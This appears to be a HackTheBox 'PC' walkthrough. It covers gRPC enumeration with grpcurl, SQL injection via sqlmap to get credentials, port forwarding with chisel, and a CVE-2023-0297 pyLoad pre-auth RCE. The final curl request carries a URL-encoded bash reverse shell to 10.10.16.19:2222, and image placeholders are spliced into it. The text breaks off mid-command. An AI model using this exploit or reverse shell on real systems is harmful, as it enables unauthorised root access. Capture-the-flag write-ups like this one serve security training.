HackTheBox — PC

4 min readOct 7, 2023

PC, an easy machine involved enumerating gRPC services, where a method vulnerable to SQLi, giving us the credentials for sau user, escalating privileges by port forwarding a login page on port 8000 which had pyLoad running vulnerable to CVE-2023–0297 which is a pre-authentication code execution, giving us the root shell.


Nmap scan report for
Host is up (0.21s latency).
Not shown: 65533 filtered tcp ports (no-response)22/tcp open ssh OpenSSH 8.2p1 Ubuntu 4ubuntu0.7 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
| 3072 91bf44edea1e3224301f532cea71e5ef (RSA)
| 256 8486a6e204abdff71d456ccf395809de (ECDSA)
|_ 256 1aa89572515e8e3cf180f542fd0a281c (ED25519)
50051/tcp open unknown

PORT 50051

Connecting to this port through telnet or netcat, doesn't yield anything but ???

Researching what runs on port 50051 shows that, gRPC uses this port which is an open source remote procedure call framework by google

We can analyze the traffic through wireshark by sniffing packets on our interface (tun0) and changing protocol to HTTP/2

gRPC can be enumerated through grpcurl

grpcurl -plaintext list

Thislisted two services, let’s try listing the methods in SimpleApp

SimpleApp service has three methods which can be checked with describe argument

We can register and login with an account which in return provides an id

grpcurl -plaintext -d '{"username":"arz101" , "password":"12345"}' SimpleApp/RegisterUser
grpcurl -plaintext -d '{"username":"arz101" , "password":"12345"}' SimpleApp/LoginUser

Now using getInfo will ask for a token


If we go back to login method, we do use a token if we enable verbosity with -vv

grpcurl -vv -plaintext -H "token: eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJ1c2VyX2lkIjoiYXJ6MTAxIiwiZXhwIjoxNjg0NjkzODY1fQ.CMWWeEN92nUfwMh8_AUGBPjHsIC7oIRTVDBZEy2qDS8" SimpleApp/getInfo

This gives us an error Unexpected : bad argument type for built-in operation due to we haven’t specified the data, if we use describe to see what parameters the method accepts

It needs the ID which we get after logging in

grpcurl -vv -plaintext -H "token: eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJ1c2VyX2lkIjoiYXJ6MTAxIiwiZXhwIjoxNjg0NjkzODY1fQ.CMWWeEN92nUfwMh8_AUGBPjHsIC7oIRTVDBZEy2qDS8" -d '{"id": "842"}' SimpleApp/getInfo

But tampering/playing around with this was a little difficult, so I tried postman and grpcui which gives you GUI with which you can work with gRPC service and also intercept the requests easily

After identifying that it was using some filters for sqli, we can try running sqlmap which found injection on id parameter

With these credentials, we can login as sau user

Privilege Escalation

Having enumerated the SUIDs, the files which are owned sau none of them showed any path to escalation, checking the local ports, therewas port 8000 open which redirects to a loginpage

Port forwarding with chisel

chisel server -p 3333 --reverse

chisel client R:localhost:8000

Now accessing the port on our browser we'll get a login page for pyLoad which is a download manager for python

Trying the default credentials like admin:admin and pyload:pyload didn't work, so searching for CVEs there was a pre-auth rce vulnerability (CVE-2023-0297)

Using the poc we'll get a shell as the rootuser

curl -i -s -k -X $'POST' \
--data-binary$'jk=pyimport%20os;os.system(\"%2Fbin%2Fbash%20%2Dc%20%27bash%20%2Di%20%3E%26%20%2Fdev%2Ftcp%2F10%2E10%2E16%2E19%2F2222%200%3E%261%27\");f=function%20f2(){};&package=xxx&crypted=AAAA&&passwords=aaaa' \